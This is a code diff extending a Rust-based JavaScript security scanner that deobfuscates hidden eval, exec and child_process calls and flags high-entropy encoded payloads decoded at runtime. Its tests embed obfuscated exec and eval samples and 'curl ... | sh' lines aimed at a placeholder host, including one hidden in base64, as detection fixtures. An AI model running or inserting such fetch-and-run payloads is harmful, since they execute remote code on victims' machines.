@@ -7,11 +7,15 @@ use oxc_ast::ast::*;
 use oxc_ast_visit::walk;
 use oxc_ast_visit::Visit;
 use oxc_parser::{Parser, ParserReturn};
-use oxc_span::SourceType;
-use std::collections::HashMap;
+use oxc_span::{GetSpan, SourceType};
+use std::collections::{BTreeSet, HashMap, HashSet};
 use std::path::Path;
 
+use crate::capabilities::{self, Capability};
+use crate::deobfuscation::{annotate, Deobfuscator};
+use crate::entropy;
 use crate::security::{IssueSeverity, SourceCodeIssue};
+use crate::taint_analyzer;
 
 /// Tracks the inferred type of a variable for security analysis
 #[derive(Debug, Clone, PartialEq)]
@@ -29,6 +33,12 @@ pub struct SecurityVisitor<'a> {
     source_text: &'a str,
     /// Symbol table: tracks variable names to their inferred type
     tracked_vars: HashMap<String, VarKind>,
+    /// Folds hidden names (`'ev' + 'al'`, string tables) before matching
+    deobfuscator: Deobfuscator<'a>,
+    /// High-entropy literals, by value, until we know whether they are decoded
+    encoded_literals: Vec<(String, SourceCodeIssue)>,
+    /// Literal values passed to `atob` / `Buffer.from(..., 'base64')`
+    decoded_values: HashSet<String>,
 }
 
 impl<'a> SecurityVisitor<'a> {
@@ -38,9 +48,31 @@ impl<'a> SecurityVisitor<'a> {
             filepath,
             source_text,
             tracked_vars: HashMap::new(),
+            deobfuscator: Deobfuscator::new(source_text),
+            encoded_literals: Vec::new(),
+            decoded_values: HashSet::new(),
         }
     }
 
+    /// Findings once the whole program has been visited: encoded literals
+    /// that are decoded at runtime are already reported as payloads
+    pub fn into_issues(self) -> Vec<SourceCodeIssue> {
+        let mut issues = self.issues;
+        issues.extend(
+            self.encoded_literals
+                .into_iter()
+                .filter(|(value, _)| !self.decoded_values.contains(value))
+                .map(|(_, issue)| issue),
+        );
+        issues
+    }
+
+    /// Use constants and string tables collected by a deobfuscation pass
+    pub fn with_deobfuscator(mut self, deobfuscator: Deobfuscator<'a>) -> Self {
+        self.deobfuscator = deobfuscator;
+        self
+    }
+
     fn add_issue(
         &mut self,
         line_number: usize,
@@ -56,6 +88,7 @@ impl<'a> SecurityVisitor<'a> {
             description,
             severity,
             code_snippet,
+            data_flow: Vec::new(),
         });
     }
 
@@ -150,19 +183,105 @@ impl<'a> SecurityVisitor<'a> {
         false
     }
 
-    /// Check if a require() call imports child_process
-    fn is_child_process_require(call: &CallExpression<'a>) -> bool {
-        if let Expression::Identifier(ident) = &call.callee {
-            if ident.name == "require" {
-                if let Some(Argument::StringLiteral(lit)) = call.arguments.first() {
-                    return lit.value == "child_process";
-                }
+    /// Check if a require() call imports child_process. `Some(true)` when
+    /// the module name only shows up after deobfuscation.
+    fn child_process_require(&self, call: &CallExpression<'a>) -> Option<bool> {
+        let Expression::Identifier(ident) = &call.callee else {
+            return None;
+        };
+        if ident.name != "require" {
+            return None;
+        }
+        let arg = call.arguments.first()?.as_expression()?;
+        let module = self.deobfuscator.string_value(arg)?;
+        if module.trim_start_matches("node:") != "child_process" {
+            return None;
+        }
+        Some(self.deobfuscator.reveal(arg).is_some())
+    }
+
+    /// Name of a global reached through a member (`global['ev' + 'al']`,
+    /// `window.eval`) and whether deobfuscation was needed to see it
+    fn global_member(&self, expr: &Expression<'a>) -> Option<(String, bool)> {
+        let member = expr.get_inner_expression().as_member_expression()?;
+        let is_global = match member.object().get_inner_expression() {
+            Expression::Identifier(ident) => {
+                matches!(
+                    ident.name.as_str(),
+                    "global" | "globalThis" | "window" | "self"
+                )
             }
+            Expression::ThisExpression(_) => true,
+            _ => false,
+        };
+        if !is_global {
+            return None;
+        }
+        match member {
+            MemberExpression::ComputedMemberExpression(computed) => {
+                let name = self.deobfuscator.string_value(&computed.expression)?;
+                let revealed = self.deobfuscator.reveal(&computed.expression).is_some();
+                Some((name, revealed))
+            }
+            _ => member
+                .static_property_name()
+                .map(|name| (name.to_string(), false)),
+        }
+    }
+
+    fn describe(&self, description: String, name: &str, revealed: bool) -> String {
+        if revealed {
+            annotate(&description, name)
+        } else {
+            description
         }
-        false
     }
 
     /// Extract the binding name from a simple declarator (e.g. `const x = ...`)
+    /// Long base64/hex runs inside a string literal; `text_start` is where
+    /// the literal's text begins in the file
+    fn check_encoded_literal(&mut self, value: &str, text_start: u32) {
+        for mut blob in entropy::find_blobs(value) {
+            let snippet = entropy::snippet(&value[blob.offset..blob.offset + blob.len]);
+            // Escapes make this approximate; good enough to find the literal
+            blob.offset = (text_start as usize + blob.offset).min(self.source_text.len());
+            while !self.source_text.is_char_boundary(blob.offset) {
+                blob.offset -= 1;
+            }
+            let issue = SourceCodeIssue {
+                file_path: self.filepath.clone(),
+                line_number: self.get_line_number(blob.offset as u32),
+                issue_type: "encoded_blob".to_string(),
+                description: entropy::describe_blob(&blob),
+                severity: IssueSeverity::Warning,
+                code_snippet: Some(snippet),
+                data_flow: Vec::new(),
+            };
+            self.encoded_literals.push((value.to_string(), issue));
+        }
+    }
+
+    /// `atob(x)` / `Buffer.from(x, 'base64' | 'hex')`: the decoder and `x`
+    fn decode_call<'e>(
+        &self,
+        call: &'e CallExpression<'a>,
+    ) -> Option<(&'static str, &'e Expression<'a>)> {
+        let data = call.arguments.first()?.as_expression()?;
+        match call.callee.get_inner_expression() {
+            Expression::Identifier(ident) if ident.name == "atob" => Some(("atob", data)),
+            callee => {
+                let member = callee.as_member_expression()?;
+                let is_buffer_from = member.static_property_name() == Some("from")
+                    && matches!(member.object().get_inner_expression(), Expression::Identifier(object) if object.name == "Buffer");
+                let encoding = self
+                    .deobfuscator
+                    .string_value(call.arguments.get(1)?.as_expression()?)?;
+                (is_buffer_from && matches!(encoding.as_str(), "base64" | "base64url" | "hex"))
+                    .then_some(("Buffer.from", data))
+            }
+        }
+    }
+
     fn binding_name(decl: &VariableDeclarator<'a>) -> Option<String> {
         if let BindingPattern::BindingIdentifier(binding_ident) = &decl.id {
             Some(binding_ident.name.to_string())
@@ -175,24 +294,42 @@ impl<'a> SecurityVisitor<'a> {
 impl<'a> Visit<'a> for SecurityVisitor<'a> {
     // Detect command execution (but not RegExp.exec)
     fn visit_member_expression(&mut self, expr: &MemberExpression<'a>) {
-        if let MemberExpression::StaticMemberExpression(static_expr) = expr {
-            let property_name = static_expr.property.name.as_str();
-
+        // obj.exec, or obj['ex' + 'ec'] once the property name is folded
+        let property = match expr {
+            MemberExpression::StaticMemberExpression(static_expr) => {
+                Some((static_expr.property.name.to_string(), false))
+            }
+            MemberExpression::ComputedMemberExpression(computed) => self
+                .deobfuscator
+                .string_value(&computed.expression)
+                .map(|name| {
+                    let revealed = self.deobfuscator.reveal(&computed.expression).is_some();
+                    (name, revealed)
+                }),
+            _ => None,
+        };
+
+        if let Some((property_name, revealed)) = property {
             // Check for dangerous methods
             let dangerous_methods = ["exec", "execSync", "spawn", "spawnSync"];
-            if dangerous_methods.contains(&property_name) {
+            if dangerous_methods.contains(&property_name.as_str()) {
                 // Check if this is a RegExp.exec() call (safe) vs child_process.exec() (dangerous)
-                let is_regex_exec = self.is_regex_context(&static_expr.object);
+                let is_regex_exec = self.is_regex_context(expr.object());
 
                 if !is_regex_exec {
-                    let line = self.get_line_number(static_expr.span.start);
-                    let snippet =
-                        self.get_code_snippet(static_expr.span.start, static_expr.span.size());
+                    let span = expr.span();
+                    let line = self.get_line_number(span.start);
+                    let snippet = self.get_code_snippet(span.start, span.size());
+                    let description = self.describe(
+                        format!("Command execution method '{}' detected", property_name),
+                        &property_name,
+                        revealed,
+                    );
 
                     self.add_issue(
                         line,
                         "command_execution".to_string(),
-                        format!("Command execution method '{}' detected", property_name),
+                        description,
                         IssueSeverity::Critical,
                         Some(snippet),
                     );
@@ -219,6 +356,52 @@ impl<'a> Visit<'a> for SecurityVisitor<'a> {
                     Some(snippet),
                 );
             }
+        } else if let Some((name, revealed)) = self.global_member(&expr.callee) {
+            // global['ev' + 'al'](...) / window.eval(...)
+            if name == "eval" {
+                let line = self.get_line_number(expr.span.start);
+                let snippet = self.get_code_snippet(expr.span.start, expr.span.size());
+                let description = self.describe(
+                    "eval() called through the global object - allows arbitrary code execution"
+                        .to_string(),
+                    &name,
+                    revealed,
+                );
+
+                self.add_issue(
+                    line,
+                    "eval_usage".to_string(),
+                    description,
+                    IssueSeverity::Critical,
+                    Some(snippet),
+                );
+            }
+        }
+
+        // A high-entropy constant decoded at runtime is a hidden payload
+        if let Some((decoder, data)) = self.decode_call(expr) {
+            if let Some(value) = self.deobfuscator.string_value(data) {
+                if let Some(blob) = entropy::find_blobs(&value).into_iter().next() {
+                    let line = self.get_line_number(expr.span.start);
+                    let snippet = self.get_code_snippet(expr.span.start, expr.span.size());
+                    let mut description = format!(
+                        "High-entropy {} string ({} chars, {:.1} bits/char) decoded at runtime by {} - likely a hidden payload",
+                        blob.encoding, blob.len, blob.entropy, decoder
+                    );
+                    if let Some(decoded) = blob.decoded() {
+                        description.push_str(&format!("; decodes to {}", decoded));
+                    }
+
+                    self.add_issue(
+                        line,
+                        "encoded_payload".to_string(),
+                        description,
+                        IssueSeverity::Critical,
+                        Some(entropy::snippet(&snippet)),
+                    );
+                    self.decoded_values.insert(value);
+                }
+            }
         }
 
         // Continue visiting child nodes
@@ -277,7 +460,7 @@ impl<'a> Visit<'a> for SecurityVisitor<'a> {
 
             // --- Track child_process require ---
             if let Expression::CallExpression(call) = init {
-                if Self::is_child_process_require(call) {
+                if let Some(revealed) = self.child_process_require(call) {
                     let line = self.get_line_number(decl.span.start);
 
                     // Simple binding: const cp = require('child_process')
@@ -295,12 +478,28 @@ impl<'a> Visit<'a> for SecurityVisitor<'a> {
                         }
                     }
 
+                    let (description, snippet) = if revealed {
+                        (
+                            annotate(
+                                "child_process module imported - can execute system commands",
+                                "child_process",
+                            ),
+                            self.get_code_snippet(call.span.start, call.span.size()),
+                        )
+                    } else {
+                        (
+                            "child_process module imported - can execute system commands"
+                                .to_string(),
+                            "require('child_process')".to_string(),
+                        )
+                    };
+
                     self.add_issue(
                         line,
                         "child_process_import".to_string(),
-                        "child_process module imported - can execute system commands".to_string(),
+                        description,
                         IssueSeverity::Warning,
-                        Some("require('child_process')".to_string()),
+                        Some(snippet),
                     );
                 }
             }
@@ -309,6 +508,17 @@ impl<'a> Visit<'a> for SecurityVisitor<'a> {
         walk::walk_variable_declarator(self, decl);
     }
 
+    fn visit_string_literal(&mut self, lit: &StringLiteral<'a>) {
+        // Skip the opening quote
+        self.check_encoded_literal(&lit.value, lit.span.start + 1);
+    }
+
+    fn visit_template_element(&mut self, element: &TemplateElement<'a>) {
+        if let Some(cooked) = &element.value.cooked {
+            self.check_encoded_literal(cooked, element.span.start);
+        }
+    }
+
     // Track reassignments: x = /pattern/ or x = new RegExp(...)
     fn visit_assignment_expression(&mut self, expr: &AssignmentExpression<'a>) {
         if let AssignmentTarget::AssignmentTargetIdentifier(ident) = &expr.left {
@@ -322,30 +532,56 @@ impl<'a> Visit<'a> for SecurityVisitor<'a> {
     }
 }
 
+/// Determine source type from filepath
+pub(crate) fn source_type(filepath: &str) -> SourceType {
+    if filepath.ends_with(".ts") || filepath.ends_with(".tsx") {
+        SourceType::ts()
+    } else if filepath.ends_with(".jsx") {
+        SourceType::jsx()
+    } else if filepath.ends_with(".mjs") {
+        SourceType::mjs()
+    } else if filepath.ends_with(".cjs") {
+        SourceType::cjs()
+    } else {
+        SourceType::unambiguous()
+    }
+}
+
+/// Findings for one file plus the capabilities its code uses
+#[derive(Debug, Default)]
+pub struct JsAnalysis {
+    pub issues: Vec<SourceCodeIssue>,
+    pub capabilities: BTreeSet<Capability>,
+    /// False when the file did not parse and nothing was checked
+    pub parsed: bool,
+}
+
 /// Analyze JavaScript/TypeScript file for security issues using AST
 pub fn analyze_js_file(path: &Path) -> Result<Vec<SourceCodeIssue>> {
+    analyze_js_file_with_capabilities(path).map(|analysis| analysis.issues)
+}
+
+/// Like `analyze_js_file`, also collecting the file's capabilities
+pub fn analyze_js_file_with_capabilities(path: &Path) -> Result<JsAnalysis> {
     let source_text = std::fs::read_to_string(path)
         .with_context(|| format!("Failed to read file: {}", path.display()))?;
 
-    analyze_js_source(&source_text, path.to_string_lossy().to_string())
+    analyze_js_source_with_capabilities(&source_text, path.to_string_lossy().to_string())
 }
 
 /// Analyze JavaScript/TypeScript source code for security issues
 pub fn analyze_js_source(source_text: &str, filepath: String) -> Result<Vec<SourceCodeIssue>> {
-    let allocator = Allocator::default();
+    analyze_js_source_with_capabilities(source_text, filepath).map(|analysis| analysis.issues)
+}
 
-    // Determine source type from filepath
-    let source_type = if filepath.ends_with(".ts") || filepath.ends_with(".tsx") {
-        SourceType::ts()
-    } else if filepath.ends_with(".jsx") {
-        SourceType::jsx()
-    } else if filepath.ends_with(".mjs") {
-        SourceType::mjs()
-    } else if filepath.ends_with(".cjs") {
-        SourceType::cjs()
-    } else {
-        SourceType::unambiguous()
-    };
+/// Analyze JavaScript/TypeScript source code for security issues and
+/// capabilities, parsing it once
+pub fn analyze_js_source_with_capabilities(
+    source_text: &str,
+    filepath: String,
+) -> Result<JsAnalysis> {
+    let allocator = Allocator::default();
+    let source_type = source_type(&filepath);
 
     // Parse the source code
     let ParserReturn {
@@ -356,14 +592,26 @@ pub fn analyze_js_source(source_text: &str, filepath: String) -> Result<Vec<Sour
 
     // If there are parse errors, fall back to regex-based analysis
     if diagnostics.has_errors() {
-        return Ok(Vec::new()); // Return empty, let regex scanner handle it
+        return Ok(JsAnalysis::default()); // Return empty, let regex scanner handle it
     }
 
     // Create visitor and analyze
-    let mut visitor = SecurityVisitor::new(filepath, source_text);
+    let mut visitor = SecurityVisitor::new(filepath.clone(), source_text)
+        .with_deobfuscator(Deobfuscator::analyze(&program, source_text));
     visitor.visit_program(&program);
-
-    Ok(visitor.issues)
+    let capabilities = capabilities::analyze_program(&program, &visitor.deobfuscator);
+
+    let mut issues = visitor.into_issues();
+    issues.extend(taint_analyzer::analyze_program(
+        &program,
+        source_text,
+        filepath,
+    ));
+    Ok(JsAnalysis {
+        issues,
+        capabilities,
+        parsed: true,
+    })
 }
 
 #[cfg(test)]
@@ -415,6 +663,98 @@ mod tests {
         assert!(issues.iter().any(|i| i.issue_type == "command_execution"));
     }
 
+    #[test]
+    fn test_detect_obfuscated_eval_and_require() {
+        let code = r#"
+            const cp = require('chi' + 'ld_pro' + 'cess');
+            cp["\x65\x78\x65\x63"]('id');
+            global['ev' + 'al'](payload);
+        "#;
+
+        let issues = analyze_js_source(code, "test.js".to_string()).unwrap();
+        for issue_type in ["child_process_import", "command_execution", "eval_usage"] {
+            let issue = issues
+                .iter()
+                .find(|i| i.issue_type == issue_type)
+                .unwrap_or_else(|| panic!("{} not detected", issue_type));
+            assert!(
+                issue.description.contains("revealed by deobfuscation"),
+                "{}",
+                issue.description
+            );
+        }
+    }
+
+    #[test]
+    fn test_decoded_high_entropy_literal_is_critical() {
+        use base64::Engine;
+        let payload = base64::engine::general_purpose::STANDARD
+            .encode("require('child_process').exec('curl http://x.example/p.sh | sh');".repeat(2));
+        let code = format!(
+            "const data = '{}';\neval(Buffer.from(data, 'base64').toString());",
+            payload
+        );
+
+        let issues = analyze_js_source(&code, "test.js".to_string()).unwrap();
+        let payload = issues
+            .iter()
+            .find(|i| i.issue_type == "encoded_payload")
+            .expect("decoded payload not detected");
+        assert_eq!(payload.severity, IssueSeverity::Critical);
+        assert_eq!(payload.line_number, 2);
+        assert!(payload
+            .description
+            .contains("decodes to 'require('child_process').exec("));
+        // Reported once, as the payload
+        assert!(!issues.iter().any(|i| i.issue_type == "encoded_blob"));
+    }
+
+    #[test]
+    fn test_unused_high_entropy_literal_is_warning() {
+        let key = "MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gunVTLw7onLRnrq0";
+        let code = format!("module.exports = {{ key: '{}' }};", key);
+
+        let issues = analyze_js_source(&code, "test.js".to_string()).unwrap();
+        let blob = issues
+            .iter()
+            .find(|i| i.issue_type == "encoded_blob")
+            .expect("blob not detected");
+        assert_eq!(blob.severity, IssueSeverity::Warning);
+        assert!(blob.description.contains("at offset 25"));
+    }
+
+    #[test]
+    fn test_detect_string_table_lookups() {
+        let code = r#"
+            var _0x3f2a = ['exec', 'child_process'];
+            var _0x5678 = function (_0x1) { _0x1 = _0x1 - 0x10; return _0x3f2a[_0x1]; };
+            require(_0x5678('0x11'))[_0x3f2a[0x0]]('curl x.example | sh');
+        "#;
+
+        let issues = analyze_js_source(code, "test.js".to_string()).unwrap();
+        let exec = issues
+            .iter()
+            .find(|i| i.issue_type == "command_execution")
+            .expect("exec through string table not detected");
+        assert!(exec
+            .description
+            .ends_with("(revealed by deobfuscation: 'exec')"));
+    }
+
+    #[test]
+    fn test_plain_global_property_not_annotated() {
+        let code = r#"
+            window.eval(code);
+        "#;
+
+        let issues = analyze_js_source(code, "test.js".to_string()).unwrap();
+        let eval = issues
+            .iter()
+            .find(|i| i.issue_type == "eval_usage")
+            .unwrap();
+        assert!(!eval.description.contains("revealed by deobfuscation"));
+    }
+
     #[test]
     fn test_dynamic_import() {
         let code = r#"